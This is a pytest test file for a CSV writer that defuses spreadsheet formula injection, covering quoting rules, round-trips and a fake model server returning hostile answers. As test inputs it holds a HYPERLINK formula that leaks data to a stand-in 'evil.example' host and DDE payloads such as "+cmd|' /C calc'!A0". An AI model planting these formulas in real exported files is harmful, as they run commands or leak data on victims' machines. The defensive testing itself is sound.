"""audit.csvio: spreadsheet-safe CSV (formula neutralisation), write_csv and CsvWriter, and a
hostile model answer reaching a run's own responses.csv through the fake server."""

from __future__ import annotations

import csv
import os
import tempfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit.csvio import CsvWriter, neutralise, read_csv, safe_frame, truthy, unneutralise, write_csv
from audit.errors import InputError
from audit.fakeserver import FakeOpenAI


def raw_rows(path: Path) -> list[list[str]]:
    """The CSV's cells as the text a spreadsheet would get (no type guessing)."""
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("cell", [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\0=1+1", "-1+1", "+1+1", "=", "-", "+", "@", "--1", "-1-",
    "-1e5e5", "- 1", "+.", "-1,5", "'=1", "'", "'plain",  # a quote gets one more: reversible
])
def test_a_dangerous_first_character_gets_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "-1", "+1", "-1.5", "+0.25", "-.5", "1e5", "-1.5E-3", "42",  # plain numbers stay numbers
    " =1+1", " -1+1", "a=1", "Sure, =1+1", "", "1+1", "x\n=1",  # not at the start (OWASP)
])
def test_numbers_and_harmless_text_are_kept(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", [-1, -1.5, 0, 3.25, None, True])
def test_non_strings_are_never_touched(value: object) -> None:
    assert neutralise(value) is value


def test_write_csv_quotes_formulas_and_keeps_negative_numbers_numeric(tmp_path: Path) -> None:
    df = pd.DataFrame({
        "text": ["=1+1", "-1+1", "-7", "ok", "\t@x"],
        "num": [-1.5, 2.0, -3.0, 0.0, -0.25],
        "count": [-1, 2, 3, -4, 5],
        "string": pd.array(["+1", "+x", None, "@a", " =2"], dtype="string"),
    })
    path = write_csv(df, tmp_path / "out.csv")
    rows = raw_rows(path)
    assert rows[0] == ["text", "num", "count", "string"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'-1+1", "-7", "ok", "'\t@x"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "0.0", "-0.25"]
    assert [r[2] for r in rows[1:]] == ["-1", "2", "3", "-4", "5"]
    assert [r[3] for r in rows[1:]] == ["+1", "'+x", "", "'@a", " =2"]
    text = path.read_text(encoding="utf-8")
    assert "\n-1+" not in text and ",-1.5,-1," in text  # numbers written bare, not quoted
    back = pd.read_csv(path)
    assert back["num"].dtype == float and back["num"].tolist() == [-1.5, 2.0, -3.0, 0.0, -0.25]
    assert back["count"].dtype == "int64" and back["count"].min() == -4
    assert df["text"].tolist()[0] == "=1+1"  # the caller's frame is not modified
    assert not (tmp_path / "out.csv.tmp").exists()


def test_safe_frame_leaves_numeric_columns_alone() -> None:
    df = pd.DataFrame({"x": [-1, -2], "s": ["-1", "=A1"]})
    out = safe_frame(df)
    assert out["x"].tolist() == [-1, -2] and out["x"].dtype == df["x"].dtype
    assert out["s"].tolist() == ["-1", "'=A1"]


def test_write_csv_into_a_missing_folder_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="does not exist"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "nope" / "out.csv")


def test_csv_writer_neutralises_every_chunk_and_writes_one_header(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with CsvWriter(path, ["a", "n"]) as out:
        out.write(pd.DataFrame({"a": ["=1", "fine"], "n": [-1, 2]}))
        out.write(pd.DataFrame({"a": ["@cmd", "-2"], "n": [-3, 4]}))
        assert not path.exists()  # written to a temp file, renamed on a clean exit
    assert out.rows == 4
    assert raw_rows(path) == [["a", "n"], ["'=1", "-1"], ["fine", "2"], ["'@cmd", "-3"], ["-2", "4"]]


def test_csv_writer_edge_cases(tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    with CsvWriter(empty, ["a", "b"]):
        pass
    assert raw_rows(empty) == [["a", "b"]]
    with pytest.raises(ValueError, match="differ"), CsvWriter(tmp_path / "x.csv") as out:
        out.write(pd.DataFrame({"a": [1]}))
        out.write(pd.DataFrame({"b": [1]}))
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "x.csv.tmp").exists()
    with pytest.raises(InputError, match="does not exist"):
        CsvWriter(tmp_path / "nope" / "x.csv")


HOSTILE = {
    "taxes": '=HYPERLINK("http://evil.example/?leak=1","Click for the full answer")',
    "guns": "@SUM(1+1)*cmd|' /C calc'!A0",
    "energy": "-2+3+cmd|' /C calc'!A0",
    "borders": "\t=1+1 and then some words of an answer",
}


def test_a_hostile_answer_is_neutralised_in_the_runs_responses_csv(tmp_path: Path) -> None:
    from audit import run as pl
    from audit.config import build_config
    from audit.send._runner import RetryPolicy
    from tests.support.prompt_sets import mini_set

    prompts = mini_set(tmp_path / "set.jsonl", topics=tuple(HOSTILE), refuse_b=())
    script = {f"{topic} should be expanded": f"say:{text}" for topic, text in HOSTILE.items()}
    with FakeOpenAI(script=script) as server:
        cfg = build_config({"prompts": str(prompts), "reports_dir": str(tmp_path / "reports"),
                            "targets": [{"base_url": server.url, "model": "fake-model", "name": "fake"}]})
        plan, _ = pl.run_audit(cfg, {"fake": None}, policy=RetryPolicy(max_retries=1, base_delay=0.01))
    rows = raw_rows(plan.run_dir / "responses.csv")
    header, body = rows[0], rows[1:]
    answer, prompt = header.index("answer"), header.index("prompt")
    hostile = {r[answer]: r for r in body if " should be expanded" in r[prompt]}
    assert sorted(hostile) == sorted("'" + text for text in HOSTILE.values())
    assert len([r for r in body if " should be expanded" in r[prompt]]) == 2 * len(HOSTILE)
    assert not any(cell.startswith(("=", "@", "+", "\t")) for r in body for cell in r)
    assert all(not c.startswith("-") or c.lstrip("-").replace(".", "").isdigit() for r in body for c in r)
    latency, attempts = header.index("latency_s"), header.index("attempts")
    assert all(float(r[latency]) >= 0 and r[attempts] == "1" for r in body)  # numbers stay bare


HOSTILE_CELLS = ["=1+1", "-2", "@x", "\tx", "\0x", "+3.5", "-1+1", "ok", "", "'=x", "=x", "\r=1"]


def test_a_categorical_column_is_neutralised_like_text_byte_for_byte(tmp_path: Path) -> None:
    cells = HOSTILE_CELLS * 3
    plain = pd.DataFrame({"text": pd.Series(cells, dtype=object), "n": range(len(cells)),
                          "flag": [i % 2 == 0 for i in range(len(cells))]})
    compact = plain.assign(text=pd.Categorical(cells))  # "=x" and "'=x" stay apart once quoted
    unused = plain.assign(text=pd.Categorical(cells, categories=["@unused", *dict.fromkeys(cells)]))
    missing = plain.assign(text=pd.Categorical([None, *cells[1:]]))
    want = write_csv(plain, tmp_path / "plain.csv").read_bytes()
    assert write_csv(compact, tmp_path / "compact.csv").read_bytes() == want
    assert write_csv(unused, tmp_path / "unused.csv").read_bytes() == want
    assert [r[0] for r in raw_rows(tmp_path / "plain.csv")[1:12]] == [
        "'=1+1", "-2", "'@x", "'\tx", "'\0x", "+3.5", "'-1+1", "ok", "", "''=x", "'=x"]
    assert b"\n\"'\r=1\"," in want  # a carriage return is quoted
    assert raw_rows(write_csv(missing, tmp_path / "missing.csv"))[1][0] == ""
    assert compact["text"].tolist() == cells  # the caller's frame is not modified


def test_safe_frame_shares_the_columns_it_does_not_change() -> None:
    df = pd.DataFrame({"n": np.arange(5), "s": ["=a", "b", "c", "d", "e"],
                       "c": pd.Categorical(["@x", "y", "@x", "y", "y"])})
    out = safe_frame(df)
    assert np.shares_memory(out["n"].to_numpy(), df["n"].to_numpy())
    assert out["s"].tolist() == ["'=a", "b", "c", "d", "e"] and df["s"].iloc[0] == "=a"
    assert isinstance(out["c"].dtype, pd.CategoricalDtype)  # neutralised once per category
    assert out["c"].tolist() == ["'@x", "y", "'@x", "y", "y"] and df["c"].iloc[0] == "@x"


# ---------------------------------------------------------------- round trip (issue 17)

PIECES = ["\r", "\r\n", "\n", "\0", '"', ",", "'", "=", "+", "-", "@", "\t", " ", "''", '""', "-1", "1e5"]
CELL = st.lists(st.one_of(st.sampled_from(PIECES), st.text(st.characters(exclude_categories=("Cs",)), max_size=12)),
                max_size=6).map("".join)  # lone surrogates never reach a CSV: the runner cleans them
ROUND_TRIP = settings(max_examples=300, deadline=None, database=None,
                      suppress_health_check=[HealthCheck.too_slow])
TEXT_COLUMNS = ["target", "answer", "evidence"]


@st.composite
def frames(draw: st.DrawFn) -> pd.DataFrame:
    """A frame like responses.csv: text columns of arbitrary cells, a number and a flag."""
    n = draw(st.integers(1, 8))
    cells = {c: draw(st.lists(CELL, min_size=n, max_size=n)) for c in TEXT_COLUMNS}
    numbers = draw(st.lists(st.integers(-10**6, 10**6), min_size=n, max_size=n))
    return pd.DataFrame({**cells, "attempts": numbers, "truncated": [i % 2 == 0 for i in range(n)]})


def read_back(path: Path) -> pd.DataFrame:
    return read_csv(path, dtype={**dict.fromkeys(TEXT_COLUMNS, str), "attempts": "int64"}, keep_default_na=False)


def assert_same(back: pd.DataFrame, df: pd.DataFrame) -> None:
    assert list(back.columns) == list(df.columns)
    for col in TEXT_COLUMNS:
        assert back[col].tolist() == df[col].astype(object).tolist(), col
    assert back["attempts"].tolist() == df["attempts"].tolist()
    assert back["truncated"].map(truthy).tolist() == df["truncated"].tolist()


@ROUND_TRIP
@given(frames())
def test_write_csv_then_read_csv_gives_back_the_frame(df: pd.DataFrame) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        path = write_csv(df, Path(tmp) / "out.csv")
        assert_same(read_back(path), df)
        with path.open(encoding="utf-8", newline="") as fh:  # and the csv module sees the same rows
            assert len(list(csv.reader(fh))) == len(df) + 1
        assert os.listdir(tmp) == ["out.csv"]  # no temp file left


@ROUND_TRIP
@given(st.lists(frames(), min_size=1, max_size=4), st.booleans())
def test_csv_writer_chunks_read_back_as_their_concatenation(chunks: list[pd.DataFrame], compact: bool) -> None:
    if compact:  # the label stage hands categoricals (repeated strings) to the writer
        chunks = [c.assign(target=pd.Categorical(c["target"])) for c in chunks]
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "big.csv"
        with CsvWriter(path, list(chunks[0].columns)) as out:
            for chunk in chunks:
                out.write(chunk)
        assert_same(read_back(path), pd.concat([c.astype({"target": object}) for c in chunks], ignore_index=True))


def test_frames_without_a_carriage_return_are_written_as_before(tmp_path: Path) -> None:
    df = pd.DataFrame({"a": ["x\ny", 'q"q', "=1", "plain"], "n": [1, -2, 3, 4]})
    assert write_csv(df, tmp_path / "a.csv").read_bytes() == b'a,n\n"x\ny",1\n"q""q",-2\n\'=1,3\nplain,4\n'
    cr = write_csv(df.assign(a=["x\ry", "\r", "a,b\r\n", "ok"]), tmp_path / "b.csv").read_bytes()
    assert cr == b'a,n\n"x\ry",1\n"\'\r",-2\n"a,b\r\n",3\nok,4\n'  # \n line ends; each \r quoted


def test_read_csv_strips_exactly_one_quote_and_leaves_numbers_alone(tmp_path: Path) -> None:
    path = tmp_path / "old.csv"  # as an earlier version wrote it (and as a person may type it)
    path.write_text("target,x,n\n'@cf/m,''=1,-1\n'=2,'plain,2.5\n", encoding="utf-8")
    back = read_csv(path)
    assert back["target"].tolist() == ["@cf/m", "=2"] and back["x"].tolist() == ["'=1", "plain"]
    assert back["n"].tolist() == [-1.0, 2.5]
    assert read_csv(path, dtype=str, keep_default_na=False)["n"].tolist() == ["-1", "2.5"]


def test_unneutralise_undoes_neutralise() -> None:
    for cell in [*HOSTILE_CELLS, "'", "''", "'@", "-1", None, 3]:
        assert unneutralise(neutralise(cell)) == cell


def test_a_temp_file_is_unique_per_writer_and_keeps_the_usual_mode(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    with CsvWriter(path, ["a"]) as one, CsvWriter(path, ["a"]) as two:  # two writers, one file
        one.write(pd.DataFrame({"a": ["1"]}))
        two.write(pd.DataFrame({"a": ["2"]}))
        assert len(list(tmp_path.glob(".x.csv.*.tmp"))) == 2
    assert raw_rows(path) in ([["a"], ["1"]], [["a"], ["2"]]) and list(tmp_path.iterdir()) == [path]
    umask = os.umask(0o022)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask


def test_a_full_disk_is_a_disk_full_error_and_leaves_no_temp_file(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from audit import csvio
    from audit.errors import DiskFullError

    path = write_csv(pd.DataFrame({"a": ["old"]}), tmp_path / "x.csv")

    def full(df: pd.DataFrame, fh: object, header: bool) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(csvio, "_write_frame", full)
    with pytest.raises(DiskFullError, match=r"cannot write .*x\.csv: No space left on device \(.* free there\)"):
        write_csv(pd.DataFrame({"a": ["new"]}), path)
    with pytest.raises(DiskFullError), CsvWriter(path, ["a"]) as out:
        out.write(pd.DataFrame({"a": ["new"]}))
    assert list(tmp_path.iterdir()) == [path] and raw_rows(path) == [["a"], ["old"]]  # the old file is intact
